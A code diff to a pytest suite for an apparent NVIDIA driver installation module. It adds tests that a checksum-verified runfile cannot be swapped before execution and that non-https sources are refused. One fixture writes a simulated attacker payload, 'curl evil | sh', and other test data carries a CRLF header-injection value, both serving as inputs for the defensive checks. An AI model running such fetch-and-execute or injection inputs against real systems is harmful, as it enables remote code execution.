@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
 import pathlib
 
 import pytest
@@ -45,9 +46,12 @@ class Node:
         for tool in ("nvidia-smi", "nv-fabricmanager", "systemctl", "modinfo", "lsmod", "rmmod", "modprobe", "sh"):
             commands.tool(tool)
         self.hooks = {}
+        self.runfiles = {}  # base name -> the runfile written by runfile()
+        self.installer_runs = []  # (path run, its bytes then): the private copy, never the file at source
         original = commands.run_command
 
         def run_command(module, args, **kwargs):
+            args = [self._original(arg) for arg in args]
             answer = original(module, args, **kwargs)
             hook = self.hooks.get(commands.split_timeout(args)[1])
             if hook and answer[0] == 0:
@@ -82,7 +86,16 @@ class Node:
     def runfile(self, tmp_path, version=NEW):
         path = tmp_path / f"NVIDIA-Linux-x86_64-{version}.run"
         path.write_text("#!/bin/sh\necho simulated\n")
+        self.runfiles[path.name] = str(path)
         return str(path), "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()
+
+    def _original(self, arg):
+        """The runfile's own path for its private copy (the argument lists below name the source), the copy's bytes kept."""
+        folder, name = os.path.split(arg)
+        if os.path.basename(folder).startswith("gpufleet-artifact.") and name in self.runfiles:
+            self.installer_runs.append((arg, pathlib.Path(arg).read_bytes()))
+            return self.runfiles[name]
+        return arg
 
     def argvs(self):
         return [call["argv"] for call in self.commands.calls]
@@ -169,6 +182,42 @@ def test_checksum_mismatch_changes_nothing(node, tmp_path, commands, run_module)
     assert "checksum mismatch" in result["msg"] and "Nothing was changed" in result["msg"]
     assert n.argvs() == READ
     assert not n.state_file.exists()
+
+
+def test_the_installer_runs_the_verified_copy_not_the_file_at_source(node, tmp_path, commands, run_module):
+    """A runfile in a folder a job user can write, swapped after the sha256 check: the installer still runs what was checked."""
+    n = node()
+    apt_tools(commands)
+    args = runfile_args(n, tmp_path)
+    good = pathlib.Path(args["source"]).read_bytes()
+    installer = ["/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms"]
+    commands.on(installer)
+    n.hooks[tuple(installer)] = lambda: n.set_driver(NEW)
+    apt_install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS, "nvidia-fabricmanager-550=550.90.07-1"]
+    commands.on(apt_install)
+    n.hooks[tuple(apt_install)] = lambda: n.set_fm(NEW)
+    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-fabricmanager-550"])
+    # The first command after the check (the GPU process listing): the attacker's moment.
+    n.hooks[tuple(SMI_APPS)] = lambda: pathlib.Path(args["source"]).write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
+    result = run_module(nvidia_driver.main, args)
+    assert n.installer_runs, "the installer ran the file at source, not a private copy"
+    (copy, ran), = n.installer_runs
+    assert ran == good and copy != args["source"]
+    assert not result.get("failed"), result.get("msg")
+    assert result["runfile"] == {"source": args["source"], "sha256": hashlib.sha256(good).hexdigest()}
+
+
+def test_runfile_method_removes_the_driver_without_a_runfile(node, tmp_path, commands, run_module):
+    n = node(nvswitch=False)
+    apt_tools(commands)
+    commands.tool("nvidia-uninstall")
+    result = run_module(nvidia_driver.main, {"state": "absent", "fabricmanager": "skip", "state_file": str(n.state_file), "package_manager": "apt"},
+                        check_mode=True)
+    assert not result.get("failed"), result.get("msg")
+    assert result["plan"]["driver"]["action"] == "remove"
+    commands.on(["/usr/bin/nvidia-uninstall", "--silent"])
+    result = run_module(nvidia_driver.main, {"state": "absent", "fabricmanager": "skip", "state_file": str(n.state_file), "package_manager": "apt"})
+    assert ["/usr/bin/nvidia-uninstall", "--silent"] in n.argvs(), result.get("msg")
 
 
 def test_gpu_process_is_refused_with_its_pid(node, tmp_path, commands, run_module):
@@ -533,9 +582,13 @@ BAD_OPTIONS = [
     ({"url_headers": {"Authorization": "Bearer x\r\nX-Injected: 1"}}, "url_headers: the value of Authorization"),
     ({"url_headers": {"Bad Name": "x"}}, "url_headers: 'Bad Name' is not an HTTP header name"),
     ({"source": "http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run", "url_username": "fleet", "url_password": "pw"},
-     "url_username, url_password and url_headers are sent only over https://"),
+     "source http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run is not an https:// URL"),
     ({"source": "ftp://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run", "url_headers": {"X-Api-Key": "k"}},
-     "url_username, url_password and url_headers are sent only over https://"),
+     "source ftp://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run is not an https:// URL"),
+    # No credentials: still refused (the runfile would travel, and could be redirected, in clear).
+    ({"source": "http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run"}, "is not an https:// URL: the runfile is downloaded only over https"),
+    ({"source": None, "presigned_url": "http://bucket.s3.amazonaws.com/x.run?X-Amz-Signature=hunter2"}, "presigned_url must be an https:// URL"),
+    ({"source": None, "presigned_url": "ftp://mirror.example.com/x.run?sig=hunter2"}, "presigned_url must be an https:// URL"),
 ]
 
 
@@ -548,6 +601,7 @@ def test_bad_option_is_refused_before_any_command(node, tmp_path, commands, run_
     result = run_module(nvidia_driver.main, args)
     assert result.get("failed") is True, result
     assert message in result["msg"]
+    assert "hunter2" not in json.dumps(result)
     assert commands.calls == []
     assert not n.state_file.exists()
 
